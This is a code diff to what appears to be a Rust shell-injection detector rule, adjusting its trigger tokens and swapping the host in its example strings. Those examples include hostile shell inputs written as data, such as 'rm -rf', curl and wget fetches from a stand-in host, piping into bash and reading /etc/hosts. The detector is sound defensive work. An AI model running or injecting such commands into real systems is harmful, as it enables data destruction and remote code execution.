@@ -13,13 +13,14 @@ pub(super) const SHELL_INJECTION: Kind = Kind::new(
     "shell_injection",
     Family::CodeInjection,
     Level::High,
-    Trigger::Exact(&["$(", "`", ";", "|", "&&", "/bin/sh", "/bin/bash", "rm -rf"]),
+    Trigger::Exact(&["$(", "&&", "/bin/sh", "/bin/bash", "rm -rf"]),
     shell,
 )
+.or(Trigger::Bytes(b"`;|"))
 .finds("a command (`rm`, `curl`, `cat`, `bash` …) behind `;`, `|`, `&&`, `$(` or between back-ticks, with what a command is written with; `/bin/sh`, `rm -rf`")
 .allows("such signs before words: `up; cat lovers`, `a | b`")
 .examples(
-    &["x; rm -rf /tmp/x", "$(curl http://198.51.100.1/x)", "a && wget http://198.51.100.1/x", "`whoami`", "x | bash", "run /bin/sh -i", "; cat /etc/hosts"],
+    &["x; rm -rf /tmp/x", "$(curl http://a.test/x)", "a && wget http://a.test/x", "`whoami`", "x | bash", "run /bin/sh -i", "; cat /etc/hosts"],
     &["prices rose; cat lovers cheered", "a | b | c", "R&D && sales", "$(amount)", "use `length` for texts", "the id; id theft"],
 );
 
